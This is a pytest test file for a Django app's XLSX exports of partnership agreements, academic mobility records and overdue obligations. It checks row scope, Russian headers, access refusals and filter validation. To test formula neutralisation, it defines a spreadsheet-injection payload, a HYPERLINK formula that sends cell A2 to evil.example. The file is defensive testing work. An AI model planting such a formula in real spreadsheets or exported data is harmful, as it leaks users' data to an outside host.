"""The partnership lists as XLSX (qadam.agreements.exporters): the register, academic
mobility and the overdue page. Each file holds exactly the rows its page shows the user with
its filters (across all its pages), headers in Russian, no cell a formula, nothing out of
the user's scope; analysts get no names; a malformed filter is 400 before any job exists."""

import re
from datetime import datetime

import pytest
from django.utils import timezone, translation

from qadam.agreements.models import Agreement, Mobility, Obligation
from qadam.agreements.tests.conftest import TODAY
from qadam.common.models import Job
from qadam.common.tests.exporting import column, export_cells, export_post, no_formula, values
from qadam.registry.tests.factories import ROLES

HTMX = {"HTTP_HX_REQUEST": "true"}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
REGISTER, MOBILITY, OVERDUE = "/partnerships/", "/partnerships/mobility/", "/partnerships/overdue/"
MOBILITY_READERS = ("ministry_admin", "college_admin_a", "college_admin_b", "university_admin")


@pytest.fixture
def export(client_for, django_capture_on_commit_callbacks):
    """export(user, name, **params) -> the sheet's cells (header first), asked in Russian."""

    def run(user, name, **params):
        client = client_for(user)
        return export_cells(
            client, django_capture_on_commit_callbacks, name, language="ru", **params
        )

    return run


@pytest.fixture
def refused(client_for, django_capture_on_commit_callbacks):
    """refused(user, name, **params) -> the status of an export that must start no job."""

    def run(user, name, **params):
        client = client_for(user)
        response, job = export_post(client, django_capture_on_commit_callbacks, name, **params)
        assert job is None and not Job.objects.exists()
        return response.status_code

    return run


@pytest.fixture
def all_on_one_page(settings):
    settings.QADAM_PAGE_SIZE = 1000


def page(client, path, **params):
    return client.get(path, params).content.decode()


def exporter_fields(html, name):
    """The hidden fields of the list's export button in `html`."""
    form = re.search(rf'data-exporter="{re.escape(name)}">(.*?)</form>', html, re.S)
    assert form, f"no export button of {name}"
    fields = re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', form.group(1))
    return {key: value for key, value in fields if key != "csrfmiddlewaretoken"}


# --------------------------------------------------------------------------- the register


def register_numbers(html):
    return re.findall(r'<tr data-number="([^"]+)"', html)


@pytest.mark.parametrize(
    ("role", "filters"),
    [
        ("ministry_admin", {}),
        ("ministry_admin", {"kind": "memorandum"}),
        ("ministry_admin", {"country": "RU"}),
        ("ministry_admin", {"country": "ru", "status": "active"}),
        ("ministry_admin", {"enterprise": "{enterprise}", "status": "active"}),
        ("ministry_admin", {"region": "{region_b}"}),
        ("ministry_admin", {"q": "M-0"}),
        ("analyst", {}),
        ("college_admin_a", {}),
        ("college_admin_b", {"institution": "{college_b}"}),
        ("enterprise_hr", {}),
        ("student", {}),
    ],
)
def test_the_register_export_holds_exactly_the_pages_rows(
    partnerships, world, users, client_for, export, all_on_one_page, role, filters
):
    ids = {"enterprise": world.enterprise.pk, "region_b": world.region_b.pk}
    ids["college_b"] = world.college_b.pk
    filters = {key: value.format(**ids) for key, value in filters.items()}
    shown = register_numbers(page(client_for(users[role]), REGISTER, **filters))
    rows = values(export(users[role], "agreements.register", **filters))
    assert column(rows, "номер") == shown  # in the page's order
    if role == "ministry_admin" and filters == {"kind": "memorandum"}:
        assert shown == ["M-001"]


def test_the_register_export_spans_every_page_of_the_list(
    partnerships, users, client_for, export, settings
):
    settings.QADAM_PAGE_SIZE = 1
    assert len(register_numbers(page(client_for(users["ministry_admin"]), REGISTER))) == 1
    rows = values(export(users["ministry_admin"], "agreements.register"))
    assert sorted(column(rows, "номер")) == ["DD-001", "M-001", "P-001"]


def test_the_register_export_has_russian_headers_and_the_agreements_facts(
    partnerships, world, users, export
):
    rows = values(export(users["ministry_admin"], "agreements.register", kind="patronage"))
    assert rows[0] == [
        "номер",
        "тип",
        "название",
        "статус",
        "дата подписания",
        "дата начала",
        "дата окончания",
        "стороны",
        "страны",
        "причина расторжения",
    ]
    (row,) = rows[1:]
    assert (row[0], row[3]) == ("P-001", "активный")
    assert (row[4], row[6]) == (datetime(2025, 1, 10), datetime(2027, 12, 31))
    assert world.enterprise.name in row[7] and world.college_a.name in row[7]


def test_a_college_administrators_register_export_holds_only_their_agreements(
    partnerships, users, export
):
    rows = values(export(users["college_admin_a"], "agreements.register"))
    assert column(rows, "номер") == ["P-001"]
    rows = values(export(users["college_admin_b"], "agreements.register", kind="patronage"))
    assert column(rows, "номер") == []  # the filter cannot reach beyond the scope


def test_the_register_export_neutralises_formulas(partnerships, users, export):
    Agreement.objects.filter(pk=partnerships.patronage.pk).update(
        title=FORMULA, termination_reason="+1", number="@P-001"
    )
    cells = export(users["college_admin_a"], "agreements.register")
    rows = values(cells)
    assert column(rows, "название") == ["'" + FORMULA]
    assert column(rows, "номер") == ["'@P-001"]
    assert column(rows, "причина расторжения") == ["'+1"]
    assert no_formula(cells)


@pytest.mark.parametrize(
    "params",
    [
        {"kind": "nonsense"},
        {"status": "<script>"},
        {"country": "RUS"},
        {"country": "1A"},
        {"country": "ЁЖ"},
        {"region": "abc"},
        {"enterprise": "0"},
        {"institution": "-1"},
    ],
)
def test_a_malformed_register_filter_is_400(partnerships, users, refused, params):
    assert refused(users["ministry_admin"], "agreements.register", **params) == 400


def test_the_register_button_is_in_the_htmx_results_with_their_filters(
    partnerships, users, client_for
):
    client = client_for(users["ministry_admin"])
    html = client.get(REGISTER, {"kind": "memorandum", "country": "kz", "page": "1"}, **HTMX)
    html = html.content.decode()
    assert "<html" not in html and register_numbers(html) == ["M-001"]
    assert exporter_fields(html, "agreements.register") == {"kind": "memorandum", "country": "KZ"}
    assert 'action="/exports/agreements.register/"' in html


# --------------------------------------------------------------------------- mobility


def mobility_names(html):
    """The names of the records in the list's table (ids read back from the database)."""
    ids = re.findall(r'<tr data-mobility="(\d+)"', html)
    names = dict(Mobility.objects.filter(pk__in=ids).values_list("pk", "full_name"))
    return [names[int(pk)] for pk in ids]


@pytest.mark.parametrize(
    ("role", "filters"),
    [
        ("ministry_admin", {}),
        ("ministry_admin", {"host_country": "RU"}),
        ("ministry_admin", {"direction": "incoming", "scholarship": "no"}),
        ("ministry_admin", {"q": "арман", "status": "abroad"}),
        ("ministry_admin", {"person_kind": "educator", "funding": "program"}),
        ("ministry_admin", {"institution": "{college_a}"}),
        ("college_admin_a", {}),
        ("college_admin_a", {"host_country": "RU"}),
        ("college_admin_b", {}),
        ("university_admin", {"home_country": "kz"}),
    ],
)
def test_the_mobility_export_holds_exactly_the_pages_rows(
    partnerships, world, users, client_for, export, all_on_one_page, role, filters
):
    filters = {key: value.format(college_a=world.college_a.pk) for key, value in filters.items()}
    shown = mobility_names(page(client_for(users[role]), MOBILITY, **filters))
    rows = values(export(users[role], "agreements.mobility", **filters))
    assert column(rows, "ФИО") == shown
    if role == "ministry_admin" and filters == {"host_country": "RU"}:
        assert shown == ["Университетов Арман"]


def test_the_mobility_export_spans_every_page_of_the_list(
    partnerships, users, client_for, export, settings
):
    settings.QADAM_PAGE_SIZE = 1
    assert len(mobility_names(page(client_for(users["ministry_admin"]), MOBILITY))) == 1
    rows = values(export(users["ministry_admin"], "agreements.mobility"))
    assert sorted(column(rows, "ФИО")) == ["Иванов Пётр", "Университетов Арман"]


def test_the_mobility_export_has_russian_headers(partnerships, world, users, export):
    rows = values(export(users["university_admin"], "agreements.mobility"))
    assert rows[0] == [
        "ФИО",
        "ИИН",
        "участник",
        "направление",
        "направляющая организация",
        "направляющая страна",
        "принимающая организация",
        "принимающая страна",
        "образовательная программа",
        "дата начала",
        "дата окончания",
        "источник финансирования",
        "на стипендии",
        "статус",
        "дата возвращения",
        "соглашение",
    ]
    (row,) = rows[1:]
    assert row[0] == "Университетов Арман" and row[2] == "студент"
    assert (row[4], row[7], row[12], row[15]) == (world.university.name, "RU", "да", "DD-001")


def test_the_mobility_export_neutralises_a_formula_in_a_name(partnerships, users, export):
    Mobility.objects.filter(pk=partnerships.incoming.pk).update(full_name=FORMULA, program="-2")
    cells = export(users["college_admin_a"], "agreements.mobility")
    rows = values(cells)
    assert column(rows, "ФИО") == ["'" + FORMULA]
    assert column(rows, "образовательная программа") == ["'-2"]
    assert no_formula(cells)


def test_an_analyst_gets_no_names_the_export_is_refused(partnerships, users, client_for, refused):
    html = page(client_for(users["analyst"]), MOBILITY)
    assert 'data-exporter="agreements.mobility"' not in html
    assert refused(users["analyst"], "agreements.mobility") == 403
    assert refused(users["analyst"], "agreements.mobility", q="Иванов") == 403


@pytest.mark.parametrize("role", ROLES)
def test_the_mobility_button_is_offered_to_the_roles_that_read_records(
    partnerships, users, client_for, refused, role
):
    html = page(client_for(users[role]), MOBILITY)
    reads = role in MOBILITY_READERS
    assert ('data-exporter="agreements.mobility"' in html) == reads
    if not reads:
        assert refused(users[role], "agreements.mobility") == 403


@pytest.mark.parametrize(
    "params",
    [
        {"direction": "sideways"},
        {"person_kind": "robot"},
        {"host_country": "RUS"},
        {"home_country": "7"},
        {"institution": "x"},
        {"funding": "nope"},
        {"scholarship": "maybe"},
        {"status": "bogus"},
    ],
)
def test_a_malformed_mobility_filter_is_400(partnerships, users, refused, params):
    assert refused(users["ministry_admin"], "agreements.mobility", **params) == 400


def test_the_mobility_button_is_in_the_htmx_results_with_their_filters(
    partnerships, users, client_for
):
    html = client_for(users["ministry_admin"]).get(
        MOBILITY, {"direction": "outgoing", "scholarship": "yes", "status": "bogus"}, **HTMX
    )
    html = html.content.decode()
    assert "<html" not in html and mobility_names(html) == ["Университетов Арман"]
    fields = exporter_fields(html, "agreements.mobility")
    assert fields == {"direction": "outgoing", "scholarship": "1"}  # the page dropped status


# --------------------------------------------------------------------------- overdue


@pytest.fixture
def today(monkeypatch):
    """conftest.TODAY: the mentors of P-001 are overdue, M-001 expires in 55 days."""
    monkeypatch.setattr(timezone, "localdate", lambda *args, **kwargs: TODAY)
    return TODAY


def overdue_page(client):
    """The page's expiring agreements (numbers) and overdue obligations (number, due on)."""
    html = page(client, OVERDUE)
    expiring = re.findall(r'<tr data-agreement="(\d+)"', html)
    obligations = re.findall(r'<tr data-obligation="(\d+)"', html)
    numbers = dict(Agreement.objects.values_list("pk", "number"))
    due = {o.pk: (o.agreement.number, o.due_on) for o in Obligation.objects.all()}
    return [numbers[int(pk)] for pk in expiring], [due[int(pk)] for pk in obligations]


def overdue_rows(rows):
    sections = column(rows, "раздел")
    numbers, due = column(rows, "соглашение"), column(rows, "срок")
    expiring = [n for s, n in zip(sections, numbers, strict=True) if s == "истекает соглашение"]
    overdue = [
        (n, d.date())
        for s, n, d in zip(sections, numbers, due, strict=True)
        if s == "просрочено обязательство"
    ]
    assert len(expiring) + len(overdue) == len(rows) - 1
    return expiring, overdue


@pytest.mark.parametrize("role", ROLES)
def test_the_overdue_export_holds_the_pages_rows_in_the_users_scope(
    partnerships, users, client_for, export, today, all_on_one_page, role
):
    shown = overdue_page(client_for(users[role]))
    rows = values(export(users[role], "agreements.overdue"))
    assert overdue_rows(rows) == shown
    expected = {
        "ministry_admin": (["M-001"], [("P-001", partnerships.mentors.due_on)]),
        "college_admin_a": ([], [("P-001", partnerships.mentors.due_on)]),
        "college_admin_b": (["M-001"], []),
        "student": ([], []),
    }
    if role in expected:
        assert shown == expected[role]


def test_the_overdue_export_has_russian_headers_and_the_pages_facts(
    partnerships, world, users, export, today
):
    rows = values(export(users["ministry_admin"], "agreements.overdue"))
    assert rows[0] == [
        "раздел",
        "соглашение",
        "название",
        "тип",
        "статус",
        "дата окончания",
        "осталось дней",
        "обязательство",
        "описание",
        "кто обязался",
        "получатель",
        "выполнено",
        "обещано",
        "единица",
        "выполнение, %",
        "срок",
    ]
    expiring, mentors = rows[1:]
    memorandum = partnerships.memorandum
    with translation.override("ru"):
        labels = [memorandum.get_kind_display(), memorandum.get_status_display()]
    assert expiring[:7] == [
        "истекает соглашение",
        "M-001",
        "memorandum M-001",
        *labels,
        datetime(2027, 1, 15),
        55,
    ]
    assert expiring[7:] == [None] * 9
    assert mentors[:3] == ["просрочено обязательство", "P-001", "patronage P-001"]
    assert mentors[7] == "наставники"
    assert (mentors[9], mentors[10]) == (world.enterprise.name, world.college_a.name)
    assert (mentors[11], mentors[12], mentors[14]) == (0, 3, 0)
    assert mentors[15] == datetime(2026, 9, 1)


def test_the_overdue_export_neutralises_formulas(partnerships, users, export, today):
    Agreement.objects.filter(pk=partnerships.memorandum.pk).update(title=FORMULA)
    Obligation.objects.filter(pk=partnerships.mentors.pk).update(description="=1+1")
    cells = export(users["ministry_admin"], "agreements.overdue")
    rows = values(cells)
    assert "'" + FORMULA in column(rows, "название")
    assert "'=1+1" in column(rows, "описание")
    assert no_formula(cells)


def test_the_overdue_button_is_in_the_htmx_results(partnerships, users, client_for, today):
    client = client_for(users["ministry_admin"])
    html = client.get(OVERDUE, {"page": "1"}, **HTMX).content.decode()
    assert "<html" not in html and 'data-obligation="' in html
    assert exporter_fields(html, "agreements.overdue") == {}
    assert 'action="/exports/agreements.overdue/"' in html


def test_the_overdue_export_ignores_values_that_are_not_its_filters(
    partnerships, users, export, today
):
    rows = values(export(users["college_admin_b"], "agreements.overdue", page="x", q="y"))
    assert overdue_rows(rows) == (["M-001"], [])
